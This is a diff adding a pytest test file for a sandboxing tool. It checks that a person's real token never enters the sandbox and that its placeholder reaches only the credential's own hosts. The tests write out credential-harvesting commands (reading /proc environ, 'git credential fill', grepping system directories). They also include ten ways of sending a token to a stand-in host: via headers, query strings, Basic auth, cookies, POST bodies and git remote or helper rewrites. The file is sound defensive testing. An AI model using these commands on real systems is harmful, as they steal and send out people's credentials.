@@ -1,0 +1,126 @@
+"""Issue 13: a credential's real value never enters the sandbox, and its placeholder goes
+nowhere but the credential's hosts. The canary is the real token: it is only in the
+environment of the person's `envgit run` (the daemon reads it there). The oracle is the
+canary (anywhere a step can read, anywhere records are kept) and the stub server's record of
+what reached it: the placeholder sent to it by header, query, Basic or a rewritten git remote
+must not reach it at all, and the step must be marked credential-misuse. Every test runs as
+root and as an unprivileged user."""
+
+import json
+import shutil
+import subprocess
+
+import pytest
+
+from gatekit import Answerer, hostport, netproject, servers
+from harness import CANARY, attacker  # noqa: F401  (the fixture)
+
+pytestmark = pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")
+
+
+def _who(method, path, headers, body):
+    if "authorization" not in headers:           # git offers credentials only after a 401
+        return 401, {"WWW-Authenticate": 'Basic realm="stub"', "Content-Type": "text/plain"}, b"who\n"
+    return 200, {"Content-Type": "text/plain"}, b"ok\n"
+
+
+def setup(attacker, git, stub, tail=""):
+    attacker.env["MY_TOKEN"] = CANARY                # the person's token, outside only
+    netproject(attacker, git, stub,
+               "irreversible:\n  - preset: default\n" + tail +
+               f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{hostport(git)}\"]\n")
+    return f"https://{hostport(stub, 'stub.example.test')}"
+
+
+def leaked(srv, needle):
+    return [q for q in srv.requests
+            if needle in json.dumps({k: v for k, v in q.items() if k != "body"}) or
+            needle.encode() in q["body"]]
+
+
+def last_step(attacker):
+    return json.loads(attacker.envgit("log", "--json", check=True).stdout)[-1]
+
+
+def test_the_real_token_is_nowhere_inside(attacker):
+    with servers(_who) as (git, stub):
+        setup(attacker, git, stub)
+        hp = hostport(git)
+        r = attacker.run(
+            "env; tr '\\0' '\\n' < /proc/self/environ; cat /proc/[0-9]*/environ | tr '\\0' '\\n'; "
+            "git config -l; "
+            f"printf 'protocol=https\\nhost={hp}\\n\\n' | git credential fill; "
+            f"grep -rsaF {CANARY} $HOME /tmp /run /etc 2>/dev/null; echo done")
+        assert "done" in r.stdout, r.stderr
+        assert CANARY not in r.stdout + r.stderr
+        assert "MY_TOKEN=" in r.stdout                # the placeholder is there, under its name
+        # the swap works: a request to the credential's host carries the real token, server side
+        r = attacker.run(f"curl -s -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer $MY_TOKEN\" "
+                         f"{git.url}/info/refs?service=git-upload-pack")
+        assert r.stdout.strip() == "200", r.stdout + r.stderr
+        assert leaked(git, f"Bearer {CANARY}")
+        assert not leaked(stub, CANARY)
+
+
+@pytest.mark.parametrize("how", [
+    "curl -s -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" {url}/",
+    "curl -s -o /dev/null -H \"Authorization: token $MY_TOKEN\" {url}/",
+    "curl -s -o /dev/null \"{url}/x?access_token=$MY_TOKEN\"",
+    "curl -s -o /dev/null \"{url}/x?t=$(printf %s \"$MY_TOKEN\" | od -An -tx1 | tr -d ' \\n' | sed 's/../%&/g')\"",
+    "curl -s -o /dev/null -u \"me:$MY_TOKEN\" {url}/",
+    "curl -s -o /dev/null -H \"Cookie: s=$MY_TOKEN\" {url}/",
+    "curl -s -o /dev/null -X POST --data \"token=$MY_TOKEN\" {url}/",
+    "git ls-remote \"https://me:$MY_TOKEN@{hp}/repo.git\"",
+    "git -c 'credential.helper=!f() {{ echo username=me; echo password=$MY_TOKEN; }}; f' ls-remote {url}/repo.git",
+    "git -c 'url.{url}/.insteadOf={git}/' -c 'credential.{url}.helper=!f() {{ echo username=me; "
+    "echo password=$MY_TOKEN; }}; f' ls-remote {git}/repo.git",
+])
+def test_the_placeholder_sent_elsewhere_is_denied_and_marked(attacker, how):
+    with servers(_who) as (git, stub):
+        url = setup(attacker, git, stub)
+        ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
+        assert ph and ph != CANARY
+        attacker.run(how.format(url=url, hp=hostport(stub, "stub.example.test"), git=git.url))
+        assert not leaked(stub, ph) and not leaked(stub, CANARY)
+        assert not [q for q in stub.requests if "authorization" in q["headers"]]
+        s = last_step(attacker)
+        assert "credential-misuse" in s["marks"], (s["marks"], s["requests"])
+        bad = [q for q in s["requests"] if q.get("rule") == "credential-misuse"]
+        assert bad[0]["credential"] == "tok" and bad[0]["host"] == "stub.example.test"
+
+
+def test_an_approval_never_widens_a_credential(attacker):
+    """The second host's requests are asked about, and the person approves everything (also
+    the whole rule): the placeholder still never reaches it, and nobody is asked about it."""
+    with servers(_who) as (git, stub):
+        url = setup(attacker, git, stub,
+                    "  - net: { host: stub.example.test, method: \"*\" }\n    action: ask\n")
+        with Answerer(attacker, lambda q: "approve") as person:
+            attacker.run(f"curl -s -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" {url}/")
+        assert not stub.requests
+        assert not person.seen
+        assert "credential-misuse" in last_step(attacker)["marks"]
+
+
+def test_outside_the_credential_paths_is_misuse(attacker):
+    with servers(_who) as (git, stub):
+        setup(attacker, git, stub)
+        text = (attacker.root / "envgit.yaml").read_text() + "    paths: [\"/repo.git/**\"]\n"
+        attacker.write_policy(text)
+        attacker.run(f"curl -s -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" {git.url_for()}/other")
+        assert not leaked(git, CANARY)
+        assert "credential-misuse" in last_step(attacker)["marks"]
+
+
+def test_no_record_holds_the_real_token(attacker):
+    with servers(_who) as (git, stub):
+        url = setup(attacker, git, stub)
+        attacker.run(f"curl -s -H \"Authorization: Bearer $MY_TOKEN\" {git.url}/info/refs?x=$MY_TOKEN; "
+                     f"curl -s -u \"me:$MY_TOKEN\" {url}/; echo $MY_TOKEN >&2")
+        assert leaked(git, CANARY)                    # it did go where it may
+        outs = [attacker.envgit(*a).stdout for a in (("log", "--json"), ("show", "--json"),
+                                                     ("show",), ("policy", "show"), ("doctor",))]
+        assert not [o for o in outs if CANARY in o]
+        r = subprocess.run(["grep", "-rlaF", CANARY, str(attacker.root / ".envgit")],
+                           capture_output=True, text=True)
+        assert r.stdout == "", r.stdout               # journal, snapshots, daemon log
